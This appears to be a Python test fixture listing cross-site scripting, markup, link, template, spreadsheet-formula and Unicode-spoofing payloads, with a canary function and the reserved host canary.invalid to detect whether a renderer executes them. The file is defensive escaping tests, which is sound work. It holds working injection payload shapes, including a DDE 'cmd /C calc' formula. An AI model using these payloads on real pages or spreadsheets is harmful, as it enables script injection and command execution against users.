"""Texts that must be shown as they are, run nothing and break no layout, wherever a cell of the record may come to stand.

A payload that runs calls `canary`, which WATCH defines in a page before anything else, or asks for an address at OUTSIDE.
"""

OUTSIDE = "canary.invalid"
"""No such host exists (RFC 2606): a request for it shows that a payload was taken for markup."""
WATCH = """
window.fired = [];
window.canary = () => window.fired.push(Error().stack);
window.alert = window.confirm = window.prompt = window.canary;
"""
"""What a page runs first; `window.fired` is empty as long as no payload has run."""

PAYLOADS: dict[str, str] = {
    # markup that runs
    "script": "<script>canary()</script>",
    "script end": "</script><script>canary()</script>",
    "script end in capitals": "</SCRIPT ><ScRiPt>canary()</ScRiPt>",
    "script from outside": "<script src=//canary.invalid/x.js></script>",
    "image": "<img src=x onerror=canary()>",
    "image in quotes": "\"><img src=x onerror=canary()>",
    "image in apostrophes": "'><img src=x onerror=canary()>",
    "image split": "<img/src='x'/onerror='canary()'//",
    "image of data": "<img src=//canary.invalid/i.png alt='beacon'>",
    "svg": "<svg onload=canary()>",
    "svg that moves": "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "frame": "<iframe srcdoc=\"<script>parent.canary()</script>\"></iframe>",
    "open details": "<details open ontoggle=canary()>more",
    "focus": "<input autofocus onfocus=canary()>",
    "style": "<style>@import'//canary.invalid/x.css';*{display:none}</style>",
    "comment": "<!--><img src=x onerror=canary()>-->",
    "base": "<base href=//canary.invalid/>",
    "form": "<form action=javascript:canary()><button>Go</button></form>",
    "template": "<template><script>canary()</script></template></template><img src=x onerror=canary()>",
    "entities": "&lt;script&gt;canary()&lt;/script&gt; &#60;b&#62; &amp;amp;",
    # attributes and scripts that a text might stand in
    "attribute": "\" onmouseover=\"canary()\" x=\"",
    "apostrophe": "' onfocus='canary()' autofocus x='",
    "script text": "'; canary(); //",
    "script text in double quotes": "\"}; canary(); ({\"",
    "template literal": "`${canary()}`",
    "line separators": "one\u2028two\u2029canary()",
    # links
    "link": "<a href=\"javascript:canary()\">press</a>",
    "javascript address": "javascript:canary()//https://example.org",
    "data address": "data:text/html,<script>opener.canary()</script>",
    "markdown": "[press](javascript:canary()) ![i](//canary.invalid/i.png) **bold** `code`",
    # other languages in which a text may be read
    "mathematics": "$\\href{javascript:canary()}{press}$ \\(\\require{html}\\) $$\\frac{1}{2}$$ $x_1$",
    "templates": "{{canary()}} {% raw %} %{x} %(name)s {0} ${HOME} #{1} \\u003cb\\u003e \\n",
    "formula": "=HYPERLINK(\"https://canary.invalid\",\"press\")",
    "formula after a sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    # letters
    "bidi": "safe \u202egnp.evil\u202c \u2066left\u2069",
    "right to left": "ראש הממשלה אמר: \"לא\" — قال الرئيس: نعم",
    "cyrillic": "Володимир Зеленський заявив: «перемир’я — ґрунт», ёлка, Їжак",
    "emoji": "👩‍👩‍👧‍👦 🇺🇦🏳️‍🌈 z̸͓̓a̷̲͝l̵͉̈́g̴͖͌o̶",
    "very long word": "Donaudampfschifffahrtsgesellschaft" * 12,
    "many words": "lorem <i>ipsum</i> & dolor " * 60,
}  # fmt: skip
